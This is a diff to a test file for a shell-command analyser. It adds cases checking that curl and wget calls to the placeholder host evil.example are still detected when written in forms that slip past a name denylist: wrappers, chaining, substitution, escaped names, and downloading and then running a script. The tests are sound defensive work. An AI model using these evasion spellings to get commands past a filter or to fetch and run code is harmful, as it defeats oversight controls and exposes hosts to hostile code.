@@ -469,3 +469,32 @@ describe('shell effects: globs and variables that hide names', () => {
     expect(e.unknown.join(' ')).toContain('$X');
   });
 });
+
+describe('shell effects: the spellings a name denylist misses (THREATS class 6) still reach the host', () => {
+  const SPELLINGS: Case[] = [
+    ['an absolute path', '/usr/bin/curl https://evil.example'],
+    ['after a semicolon', 'ls;curl https://evil.example'],
+    ['after &&', 'ls && curl https://evil.example'],
+    ['through env', 'env curl https://evil.example'],
+    ['through sudo', 'sudo curl https://evil.example'],
+    ['through timeout', 'timeout 5 curl https://evil.example'],
+    ['through busybox', 'busybox wget https://evil.example'],
+    ['inside bash -c', "bash -c 'curl https://evil.example'"],
+    ['in a command substitution', 'echo $(curl https://evil.example)'],
+    ['in backticks', 'echo `curl https://evil.example`'],
+    ['with a backslash in the name', 'c\\url https://evil.example'],
+    ['with quotes in the name', "'c'url https://evil.example"],
+    ['in a here-string to a shell', "bash <<< 'curl https://evil.example'"],
+    ['in process substitution', 'cat <(curl https://evil.example)'],
+    ['from a binary outside the system directories', '/opt/tools/curl https://evil.example'],
+    ['written to a script, then run', "echo 'x' > a.sh; curl https://evil.example -o a.sh; bash a.sh"],
+  ];
+  it.each(SPELLINGS)('%s', (_why, line) => {
+    expect(fx(line).network.map((n) => n.host)).toContain('evil.example');
+  });
+
+  it('a name only known at run time is code that is not known', () => {
+    expect(fx('sh -c "$(echo curl) https://evil.example"').exec.some((e) => e.kind === 'runtime')).toBe(true);
+    expect(fx('echo x | xargs curl').network.some((n) => !n.known)).toBe(true);
+  });
+});
